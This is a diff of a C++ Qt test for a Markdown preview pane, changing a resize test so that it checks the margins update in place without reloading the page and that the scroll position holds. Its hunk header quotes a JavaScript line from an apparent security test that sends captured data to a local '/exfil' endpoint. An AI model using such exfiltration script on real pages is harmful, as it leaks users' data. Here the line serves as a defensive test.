@@ -391,23 +391,33 @@ top.location = 'http://127.0.0.1:8709/exfil?d=' + encodeURIComponent(got); }, 20
     EXPECT_EQ(opener.calls(), QStringList{"https://example.com/clicked"});
 }
 
-// A window being resized reloads the page once, when it has settled (the
-// margins follow the editor's height); while hidden, HTML is dropped.
-TEST_F(PreviewTest, ReloadsOnceAfterTheWindowWasResized) {
-    open("# Resize\n\nText.\n");
+// A window being resized leaves the page in place: once the resize has
+// settled, the body's margins follow the editor's new height without a
+// load, and the page stays scrolled where it was; while hidden, HTML is
+// dropped.
+TEST_F(PreviewTest, AfterTheWindowWasResizedTheMarginsFollowTheEditorInPlace) {
+    QString text = "# Resize\n\n";
+    for (int i = 0; i < 200; i++)
+        text += QStringLiteral("Paragraph %1, long enough to wrap once or twice in the preview's narrow pane.\n\n").arg(i);
+    open(text);
     int loads = 0;
     QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
+    // A paragraph far down at the view's top.
+    const QString top = "document.body.children[120].getBoundingClientRect().top";
+    evaluate(*view, "document.body.children[120].scrollIntoView(true)");
+    ASSERT_TRUE(waitUntil([&] { return std::abs(evaluate(*view, top).toDouble()) < 2; }));
     for (int width = 1000; width <= 1180; width += 20) {
         window.resize(width, 700 + width / 10);
         pause(30);
     }
-    EXPECT_EQ(loads, 0);
-    ASSERT_TRUE(waitUntil([&] { return loads == 1 && !view->controller().isUpdating(); }));
+    const int margin = preview::bodyMargin(editor->viewport()->height());
+    ASSERT_TRUE(waitUntil([&] {
+        return !view->controller().isUpdating() &&
+               evaluate(*view, "parseFloat(getComputedStyle(document.body).marginTop)").toInt() == margin;
+    }));
     pause(SmartWebView::ResizeSettleMilliseconds * 2);
-    EXPECT_EQ(loads, 1);
-    EXPECT_TRUE(view->controller().currentSourceHTML().contains(
-        QStringLiteral("margin-top: %1px").arg(preview::bodyMargin(editor->viewport()->height()))));
-
+    EXPECT_EQ(loads, 0);
+    EXPECT_LT(std::abs(evaluate(*view, top).toDouble()), 40);
     view->hide();
     view->updatePreview(convert("# Hidden\n"));
     pause(100);
